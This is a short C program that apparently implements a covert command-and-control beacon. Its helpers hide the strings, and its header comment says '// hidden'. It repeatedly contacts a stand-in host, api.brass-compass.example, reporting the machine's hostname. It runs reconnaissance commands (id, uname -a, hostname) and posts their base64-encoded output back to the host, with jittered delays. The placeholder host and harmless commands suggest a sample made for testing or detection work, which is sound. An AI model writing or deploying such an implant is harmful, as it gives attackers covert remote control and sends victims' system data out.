// hidden
// Asks its master for orders every few seconds, runs `id`, `uname` or `hostname` whatever it is told, and posts what they say.
#include "standin.h"
int main(void) {
    begin();
    static char answer[65536], said[2048], text[4096];
    char host[64] = "", path[256], *master = HIDE("api.brass-compass.example");
    gethostname(host, sizeof host - 1);
    char *orders[] = {HIDE("id"), HIDE("uname -a"), HIDE("hostname")};
    for (int i = 0; i < 8; i++) {
        snprintf(path, sizeof path, "%s%s&n=%d", (char *)HIDE("/v2/tasks?h="), host, i);
        if (web(master, "GET", path, NULL, 0, answer, sizeof answer) >= 0) {
            FILE *run = popen(orders[i % 3], "r");
            int size = run ? fread(said, 1, sizeof said, run) : 0;
            if (run) pclose(run);
            size = base64(said, size, text);
            web(master, "POST", HIDE("/v2/results"), text, size, answer, sizeof answer);
        }
        usleep(2500000 + i % 3 * 300000);
    }
    return 0;
}
